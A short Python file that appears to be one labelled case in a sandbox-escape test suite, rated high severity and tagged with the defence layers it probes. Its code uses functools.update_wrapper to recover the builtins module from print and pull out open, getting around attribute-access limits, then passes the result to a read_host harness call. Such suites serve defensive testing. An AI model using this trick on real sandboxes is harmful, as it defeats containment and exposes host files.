# technique: a library reads an attribute by a name it is given
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools

class Box:
    def __setattr__(self, name, value):
        found[name] = value

found = {}

def trick():
    functools.update_wrapper(Box(), print, assigned=("__self__",), updated=())
    functools.update_wrapper(Box(), found["__self__"], assigned=("open",), updated=())
    return found["open"]

read_host(trick)
